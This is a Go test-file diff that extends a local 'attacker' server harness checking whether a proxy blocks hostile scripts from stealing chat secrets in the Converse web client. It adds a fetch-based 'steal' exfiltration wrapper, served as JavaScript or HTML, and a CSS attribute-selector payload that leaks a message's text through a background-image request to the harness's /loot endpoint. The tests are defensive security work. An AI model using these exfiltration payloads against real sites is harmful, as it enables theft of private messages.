@@ -6,6 +6,7 @@ import (
 	"net/http"
 	"net/http/httptest"
 	"os"
+	"path"
 	"path/filepath"
 	"strings"
 	"sync"
@@ -31,6 +32,7 @@ func newAttacker(t *testing.T) *attacker {
 	mux := http.NewServeMux()
 	mux.HandleFunc("GET /attacks/{name}", a.serve)
 	mux.HandleFunc("POST /loot/{attack}", a.keep)
+	mux.HandleFunc("GET /loot/{attack}", a.keep) // what a style sheet can send
 	script, cdn := httptest.NewServer(mux), httptest.NewServer(mux)
 	t.Cleanup(script.Close)
 	t.Cleanup(cdn.Close)
@@ -45,12 +47,18 @@ func (a *attacker) serve(w http.ResponseWriter, r *http.Request) {
 		http.Error(w, err.Error(), http.StatusNotFound)
 		return
 	}
-	w.Header().Set("Content-Type", "text/javascript")
 	// The built-in fetch is kept, so that an attack which wraps it does not
 	// report its own reports.
-	fmt.Fprintf(w, `var CDN = %q, steal = globalThis.steal || ((send) => (attack, loot) =>
+	means := fmt.Sprintf(`var CDN = %q, steal = globalThis.steal || ((send) => (attack, loot) =>
   send(%q + attack, { method: "POST", mode: "no-cors", body: String(loot) }).catch(() => {}))(fetch.bind(globalThis));
-%s`, a.cdn, a.script+"/loot/", body)
+`, a.cdn, a.script+"/loot/")
+	if path.Ext(r.URL.Path) == ".html" {
+		w.Header().Set("Content-Type", "text/html")
+		means = "<script>" + means + "</script>"
+	} else {
+		w.Header().Set("Content-Type", "text/javascript")
+	}
+	fmt.Fprint(w, means, string(body))
 }
 
 func (a *attacker) keep(_ http.ResponseWriter, r *http.Request) {
@@ -66,7 +74,7 @@ func (a *attacker) keep(_ http.ResponseWriter, r *http.Request) {
 	a.mu.Lock()
 	defer a.mu.Unlock()
 	attack := r.PathValue("attack")
-	a.loot[attack] = append(a.loot[attack], string(body))
+	a.loot[attack] = append(a.loot[attack], r.URL.RawQuery+string(body))
 	a.changed.Broadcast()
 }
 
@@ -126,6 +134,9 @@ func hostilePage(a *attacker) string {
 	for _, attack := range attacks {
 		fmt.Fprintf(&b, `<script src="%s/attacks/%s.js"></script>`+"\n", a.script, attack.name)
 	}
+	// A seventh needs no script: Converse writes messages into attributes, which a
+	// style sheet in injected markup can read.
+	fmt.Fprintf(&b, `<style>converse-chat-message-body[text*="heron flies"]{background:url("%s/loot/style?read")}</style>`+"\n", a.script)
 	return b.String()
 }
 
@@ -169,6 +180,9 @@ func TestHostileScriptsSucceedWithoutTheProxy(t *testing.T) {
 						t.Errorf("control: %s did not get %q: the attack proves nothing; it got:\n%.2000s", attack.name, proof, a.all(attack.name))
 					}
 				}
+			}
+			if !a.wait(ctx, "style", func(loot []string) bool { return len(loot) > 0 }) {
+				t.Error("control: the style sheet did not read the secret: the attack proves nothing")
 			}
 			if _, err := vendor.Wait(ctx, func(h site.Hit) bool { return h.Path == "/collect/replay" && strings.Contains(h.Body, secret) }); err != nil {
 				t.Errorf("control: rrweb did not record the secret: the attack proves nothing: %v", err)
@@ -224,6 +238,9 @@ func TestHostileScriptsGetNothing(t *testing.T) {
 				t.Errorf("the page view comes from %q, not from an opaque origin", view.Origin)
 			}
 
+			if a.count("style") > 0 {
+				t.Error("a style sheet in the page's markup read the secret")
+			}
 			for _, attack := range attacks {
 				for _, leaked := range append([]string{secret, "may I tell you something", "alice@", "bob@"}, attack.proof...) {
 					if strings.Contains(a.all(attack.name), leaked) {
